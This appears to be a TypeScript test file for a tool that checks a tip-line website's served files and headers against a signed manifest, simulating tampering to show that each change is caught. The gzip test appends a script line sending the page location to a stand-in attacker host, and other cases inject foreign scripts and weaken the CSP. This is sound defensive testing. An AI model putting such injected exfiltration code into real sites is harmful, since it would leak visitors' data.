// `tipline verify-site` against a real server whose client manifest, signed by `tipline keys sign-manifest`, is
// published at /.well-known/tipline/client-manifest: it passes on the page as built, and fails, naming the file,
// when one byte of a served file changes (also only in the gzip copy browsers get), when a script is added to a
// page, when the CSP header changes or is doubled, on a Link header, a redirect to another origin, and a page
// whose fingerprint slot is left unfilled. Changed files are served from a changed copy of dist/web
// (config.webDir); changed headers by a forwarder in front of the real server (test/helpers/rewriting-proxy.ts).
import t from 'tap';
import { createHash } from 'node:crypto';
import { cpSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { gzipSync } from 'node:zlib';
import { cliNewsroomServer } from './helpers/setup.js';
import { runCli } from './helpers/cli.js';
import { startServer } from './helpers/server.js';
import { rewritingProxy, type Rewrite } from './helpers/rewriting-proxy.js';
import { publishDocumentsBeside } from '../server/documents.js';
import { normalizeFingerprint } from '../crypto/keys.js';
import { verifyClientManifest } from '../crypto/client-manifest.js';
import { FINGERPRINT_SLOT, PAGE_CSP } from '../schema/page.js';

const WEB = fileURLToPath(new URL('../web/', import.meta.url)); // dist/web
const sha = (b: Uint8Array) => createHash('sha256').update(b).digest('hex');

t.test('verify-site', { timeout: 300_000 }, async (t) => {
  const { work, keys, fingerprint, store, server } = await cliNewsroomServer(t);

  const signed = await runCli(['keys', 'sign-manifest', '--dir', keys]);
  t.equal(signed.code, 0, signed.stderr);
  const built = readFileSync(join(WEB, 'client-manifest.json'));
  t.match(signed.stdout, /files: 6 \(version /, 'sign-manifest says how many files');
  t.match(signed.stdout, new RegExp(`sha256 of .*client-manifest\\.json: ${sha(built)}`), "and the built manifest's SHA-256");
  const manifest = verifyClientManifest(JSON.parse(readFileSync(join(keys, 'client-manifest.json'), 'utf8')), fingerprint);
  t.same(manifest.files.map((f) => f.path).sort(), ['/', '/assets/app.js', '/assets/style.css', '/assets/worker.js', '/de/', '/es/'], 'the manifest lists every page and asset');
  t.ok(manifest.files.every((f) => f.csp === PAGE_CSP), 'each with the one CSP of schema/page.ts');

  const said: string[] = [];
  await publishDocumentsBeside(store.db, join(keys, 'directory.json'), new Date(), normalizeFingerprint(fingerprint), (s) => said.push(s));
  t.match(said.join('\n'), /client-manifest: .*published/, 'the signed manifest is published');
  const served = await fetch(`${server.url}/.well-known/tipline/client-manifest`);
  t.equal(served.status, 200, 'served at /.well-known/tipline/client-manifest');

  const verify = (url: string, fp = fingerprint) => runCli(['verify-site', url, '--fingerprint', fp]);

  await t.test('passes against the page as built', async (t) => {
    const r = await verify(server.url);
    t.comment(r.stdout);
    t.equal(r.code, 0, `exit 0${r.stderr ? `: ${r.stderr}` : ''}`);
    for (const p of ['/', '/es/', '/de/', '/assets/app.js', '/assets/worker.js', '/assets/style.css']) t.match(r.stdout, new RegExp(`^PASS ${p.replace(/[./]/g, '\\$&')}: `, 'm'), `PASS ${p}`);
    t.match(r.stdout, /^PASS \/es: redirects to \/es\/ on this origin$/m, '/es redirects within the origin');
    t.match(r.stdout, /PASS \/assets\/app\.js: .*loads \/assets\/worker\.js/, 'the worker the script starts is found and checked');
    t.notMatch(r.stdout, /FAIL/);
    t.match(r.stdout, /verify-site: PASS/);
  });

  await t.test('a wrong fingerprint, a missing one', async (t) => {
    const other = 'aaaa bbbb cccc dddd eeee ffff gggg hhhh';
    const r = await verify(server.url, other);
    t.equal(r.code, 1, 'exit 1');
    t.match(r.stdout, /^FAIL \/\.well-known\/tipline\/client-manifest: /m, 'the manifest does not verify under another root');
    const u = await runCli(['verify-site', server.url]);
    t.equal(u.code, 2, 'usage: exit 2');
    t.match(u.stderr, /missing --fingerprint/);
  });

  /** A server on the same database serving a copy of dist/web changed by `change`. */
  async function changedCopy(name: string, change: (dir: string) => void) {
    const dir = join(work, name);
    cpSync(WEB, dir, { recursive: true });
    change(dir);
    const s = await startServer({ powDifficulty: 10, db: store.db, webDir: dir });
    t.teardown(() => s.close());
    return s;
  }

  await t.test('one byte of the script changed', async (t) => {
    const s = await changedCopy('web-byte', (dir) => {
      const js = readFileSync(join(dir, 'assets', 'app.js'));
      js[1000] = js[1000]! ^ 1;
      writeFileSync(join(dir, 'assets', 'app.js'), js);
      writeFileSync(join(dir, 'assets', 'app.js.gz'), gzipSync(js));
    });
    const r = await verify(s.url);
    t.equal(r.code, 1, r.stderr);
    t.match(r.stdout, /^FAIL \/assets\/app\.js: its body is not the signed one/m, 'names the file');
    t.match(r.stdout, /^PASS \/assets\/worker\.js: /m, 'the others still pass');
    t.match(r.stdout, /verify-site: FAIL: 1 of \d+ paths .*\(\/assets\/app\.js\)/, 'the summary names it');
  });

  await t.test('only the gzip copy browsers get is changed', async (t) => {
    const s = await changedCopy('web-gzip', (dir) => {
      const js = readFileSync(join(dir, 'assets', 'worker.js'));
      writeFileSync(join(dir, 'assets', 'worker.js.gz'), gzipSync(Buffer.concat([js, Buffer.from(';fetch("http://evil.example/"+location)')])));
    });
    const r = await verify(s.url);
    t.equal(r.code, 1, r.stderr);
    t.match(r.stdout, /^FAIL \/assets\/worker\.js: asked as a browser asks \(Accept-Encoding: [^)]*\): its body is not the signed one/m, 'the compressed answer is checked too');
  });

  await t.test('a script added to a page', async (t) => {
    const s = await changedCopy('web-script', (dir) => {
      const file = join(dir, 'es', 'index.html');
      writeFileSync(file, readFileSync(file, 'utf8').replace('</head>', '<script src="/assets/extra.js"></script><script src="https://cdn.example/x.js"></script></head>'));
    });
    const r = await verify(s.url);
    t.equal(r.code, 1, r.stderr);
    const line = r.stdout.split('\n').find((l) => l.startsWith('FAIL /es/:')) ?? '';
    t.match(line, /its body is not the signed page/, 'the page fails on its hash');
    t.match(line, /a script \/assets\/extra\.js, which the signed manifest does not list/, 'names the unlisted script');
    t.match(line, /a script from another origin: https:\/\/cdn\.example\/x\.js/, 'and the one from elsewhere');
    t.match(r.stdout, /^PASS \/de\/: /m, 'the other languages pass');
  });

  /** verify-site through a forwarder that rewrites what the real server answers. */
  async function viaProxy(rewrite: Rewrite) {
    const p = await rewritingProxy(server.url, rewrite);
    t.teardown(() => p.close());
    return verify(p.url);
  }

  await t.test('the CSP header changed', async (t) => {
    const r = await viaProxy((path, a) => ({ ...a, headers: path === '/assets/style.css' ? { ...a.headers, 'content-security-policy': PAGE_CSP.replace("script-src 'self'", "script-src 'self' https://cdn.example") } : a.headers }));
    t.equal(r.code, 1, r.stderr);
    t.match(r.stdout, /^FAIL \/assets\/style\.css: its Content-Security-Policy is not the signed one/m, 'names the file and the header');
    t.match(r.stdout, /^PASS \/assets\/app\.js: /m);
  });

  await t.test('a second CSP header, a Link header, a redirect elsewhere', async (t) => {
    const r = await viaProxy((path, a) => {
      if (path === '/de/') return { ...a, headers: { ...a.headers, 'content-security-policy': [PAGE_CSP, "script-src 'self' 'unsafe-inline'"] } };
      if (path === '/assets/worker.js') return { ...a, headers: { ...a.headers, link: '<https://cdn.example/w.js>; rel=preload; as=script' } };
      if (path === '/es') return { status: 308, headers: { location: 'http://elsewhere.example/es/' }, body: Buffer.alloc(0) };
      return { ...a, headers: a.headers };
    });
    t.equal(r.code, 1, r.stderr);
    t.match(r.stdout, /^FAIL \/de\/: 2 Content-Security-Policy headers/m);
    t.match(r.stdout, /^FAIL \/assets\/worker\.js: a Link header/m);
    t.match(r.stdout, /^FAIL \/es: redirects to another origin: http:\/\/elsewhere\.example/m);
  });

  await t.test('a page with its fingerprint slot left unfilled once', async (t) => {
    const display = fingerprint;
    const r = await viaProxy((path, a) => (path === '/' && a.headers['content-encoding'] === undefined ? { ...a, headers: a.headers, body: Buffer.from(a.body.toString('utf8').replace(display, FINGERPRINT_SLOT)) } : { ...a, headers: a.headers }));
    t.equal(r.code, 1, r.stderr);
    t.match(r.stdout, /^FAIL \/: its body is the signed page but with the fingerprint slot left unfilled/m, 'the exact comparison catches it');
  });
});
